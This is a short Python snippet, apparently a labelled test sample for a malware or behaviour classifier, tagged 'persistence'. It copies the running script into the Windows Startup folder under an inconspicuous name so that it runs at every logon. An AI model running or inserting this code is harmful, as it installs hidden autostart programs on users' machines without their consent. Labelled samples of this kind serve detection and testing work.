# expect: 4 persistence
import os, shutil, sys
dst = os.path.join(os.getenv('APPDATA'), r'Microsoft\Windows\Start Menu\Programs\Startup', 'u.pyw')
shutil.copyfile(sys.argv[0], dst)
